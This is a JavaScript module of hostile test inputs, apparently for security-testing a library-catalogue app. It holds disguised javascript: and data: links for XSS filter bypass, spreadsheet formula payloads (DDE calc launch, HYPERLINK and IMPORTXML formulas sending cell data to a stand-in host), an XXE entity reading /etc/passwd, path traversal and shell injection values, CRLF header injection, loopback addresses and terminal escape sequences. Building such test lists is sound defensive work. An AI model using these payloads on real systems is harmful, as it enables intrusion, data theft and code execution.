// Payloads that are not markup: links, formulas, delimiters, names, signs.

/** Ways to write a scheme so that a careless filter does not know it. */
const DISGUISES = [
  'javascript:HIT', 'JaVaScRiPt:HIT', ' javascript:HIT', '\tjavascript:HIT', '\njavascript:HIT', '\rjavascript:HIT', '\x01javascript:HIT',
  '\x1fjavascript:HIT', '\0javascript:HIT', '\u00a0javascript:HIT', '\u2028javascript:HIT', '\ufeffjavascript:HIT', '\u200bjavascript:HIT',
  '\u202ejavascript:HIT', 'java\tscript:HIT', 'java\nscript:HIT', 'java\rscript:HIT', 'java\0script:HIT', 'java\u00adscript:HIT', 'java\u200dscript:HIT',
  'javascript\t:HIT', 'javascript\n:HIT', 'javascript :HIT', 'javascript&colon;HIT', 'javascript&#58;HIT', 'javascript&#x3a;HIT', 'javascript%3AHIT',
  'java&Tab;script:HIT', 'java&NewLine;script:HIT', '&#106;avascript:HIT', '&#x6A;avascript:HIT', '%6Aavascript:HIT', '\\u006aavascript:HIT', '\\6aavascript:HIT',
  'ｊavascript:HIT', 'javaſcript:HIT', 'jаvascript:HIT', 'javascript：HIT', 'javascript://elsewhere.example/%0aHIT', 'javascript://x@elsewhere.example/%0aHIT',
  'javascript:/*https://library.example/*/HIT', 'javascript:"https://library.example/";HIT', "javascript:'<svg onload=HIT>'", 'javascript:void(HIT)',
  'javascript:javascript:HIT', 'feed:javascript:HIT', 'view-source:javascript:HIT', 'jar:javascript:HIT!/x', 'https:javascript:HIT', 'url:javascript:HIT',
  'vbscript:HIT', 'VbScRiPt:HIT', 'livescript:HIT', 'mocha:HIT', 'data:text/html,<script>HIT</script>', 'DATA:text/html,<script>HIT</script>',
  'data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgwKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>',
  'data:,HIT', 'data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>HIT</script></x>', 'blob:https://elsewhere.example/1', 'filesystem:https://elsewhere.example/1',
];

const ADDRESSES = [
  'file:///etc/passwd', 'about:blank', 'view-source:https://elsewhere.example/', 'chrome://settings', 'ftp://elsewhere.example/x', 'ws://elsewhere.example/',
  'intent://elsewhere.example/#Intent;scheme=https;end', 'ms-word:ofe|u|https://elsewhere.example/x.doc', 'search-ms:query=x', 'steam://run/1', 'tel:+70000000000',
  'sms:+70000000000?body=x', 'magnet:?xt=urn:btih:0', 'urn:isbn:9780306406157', 'ssh://-oProxyCommand=x/', 'https:elsewhere.example', 'https:/elsewhere.example', 'http:',
  '//elsewhere.example/', '///elsewhere.example/', '/\\elsewhere.example/', '\\\\elsewhere.example\\x', 'https:\\\\elsewhere.example\\', '../admin', '/etc', '?q=x', '#/record/x',
  'https://user:secret@elsewhere.example/', 'https://user@elsewhere.example/', 'https://library.example@elsewhere.example/', 'https://:secret@elsewhere.example/',
  'https://library.example\\@elsewhere.example/', 'https://library.example%40elsewhere.example/', 'https://@elsewhere.example/', 'https://', 'https:///', 'https://?x', 'https://#x',
  'https://elsewhere.example/\u202egpj.exe', 'https://elsewhere\u3002example/', 'https://еlsewhere.example/', 'https://xn--lsewhere-4ve.example/', 'https://elsewhere.example/\u2066x\u2069',
  'https://elsewhere.example/" onclick="HIT', "https://elsewhere.example/' onclick='HIT", 'https://elsewhere.example/><script>HIT</script>', 'https://elsewhere.example/`HIT`',
  'https://elsewhere.example/\u0000x', 'https://elsewhere.example/\r\nSet-Cookie: x=1', 'https://elsewhere.example/ x', 'https://elsewhere.example/\tx', 'https://[::1]/', 'https://[::ffff:127.0.0.1]/',
  'http://127.0.0.1:1/', 'http://0x7f000001/', 'http://2130706433/', 'http://localhost/', 'https://elsewhere.example:99999/', 'https://elsewhere.example:-1/', 'https://%65lsewhere.example/',
  'mailto:x@elsewhere.example?subject=a%0d%0aBcc:y@elsewhere.example', 'mailto:x@elsewhere.example\r\nBcc: y@elsewhere.example', 'mailto:?attach=/etc/passwd', 'mailto:"<script>HIT</script>"@elsewhere.example',
];

export const LINKS = [...DISGUISES, ...ADDRESSES];

export const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '"=1+1', '""=1+1', "'=1+1", '"\n=1+1', ';=1+1', ',=1+1',
  '",=1+1', '";=1+1', '|=1+1', ' | =1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', "=-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")', '=IMPORTXML(CONCAT("https://elsewhere.example/?",A1),"//a")', '=IMAGE("https://elsewhere.example/"&A1)', '=WEBSERVICE("https://elsewhere.example/")',
  '=DDE("cmd";"/C calc";"x")', '%0A-3+3', '==1+1', '=', '-', '+', '@', '\u22121+1', 'a"\n=1+1,"b', '\x0b=1+1', '\x0c=1+1',
];

export const DELIMITERS = [
  '\x1d', '\x1e', '\x1f', '\x1fa injected', '\x1e  \x1faInjected', '\x1d00026nam a2200025 a 4500\x1e\x1d', 'x\x1fuhttps://elsewhere.example/', '^A injected', '^^A injected', '^', '#',
  'x\n#200: ^Ainjected', 'x\n*****\n#200: ^Ainjected\n*****', '*****', '"},{"id":"injected","title":"x"},{"x":"', '\\', '\\"', '\\\\"', '\\u0022', '"\n{"id":"injected"}\n', '\u2028', '\u2029', '\x85',
  '"\r\n"injected","x', '\r\ninjected,x,y', '\tinjected\tx', 'a | b', ']]>', ']]]]><![CDATA[>', '<!--', '-->', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '&xxe;', '&', '&amp', '&#0;', '&#xD800;',
  '<?xml-stylesheet href="javascript:HIT"?>', '<?php HIT ?>', '</datafield></record><record><leader>injected</leader></record>', '</marc:subfield>', '<record/>', '\r\nSet-Cookie: x=1', 'x\r\n\r\n<script>HIT</script>',
];

export const NAMES = [
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', '__lookupSetter__', 'constructor.prototype', '__proto__[x]', '{"__proto__":{"polluted":1}}', 'then', 'length', 'null',
  'undefined', 'NaN', 'true', '[object Object]', '-0', '1e309', '9007199254740993', '0x1', '',
];

export const SIGNS = [
  '\u202eevil', '\u202d\u202e\u2066\u2067\u2068\u2069', '\u202bRTL', 'مرحبا <b>', '\u061c', '\u200e\u200f', '\ufffe\uffff', '\ufffd', '\u{e0001}\u{e0061}', '\u{10ffff}', 'a\u0338\u0338\u0338',
  '\u0000', '\x7f', '\x80\x9f', 'İıſK', 'ﬀﬃ', '\u115f\u1160', '\u3164', '\u00ad', '\u2800', '𝕵𝖆𝖛𝖆', 'Z̷̢͠a', '🏴‍☠️',
];

export const PATHS = [
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\x', '%2e%2e%2f%2e%2e%2f', '..;/..;/', '....//....//', 'chunks/../../x', 'file.zip/../x', 'CON', 'x\0.html', '~root', '$(HIT)', '`id`', '| id', '; id', '$HOME', '%s%s%n',
];

export const TERMINAL = [
  '\x1b[2J', '\x1b]0;title\x07', '\x1b]8;;https://elsewhere.example/\x07x\x1b]8;;\x07', '\x1b[31mred', '\x9b31m', '\x1bP$q\x1b\\', '\x07', '\x08\x08\x08', '\x1b]52;c;eA==\x07', '\r\x1b[K',
];
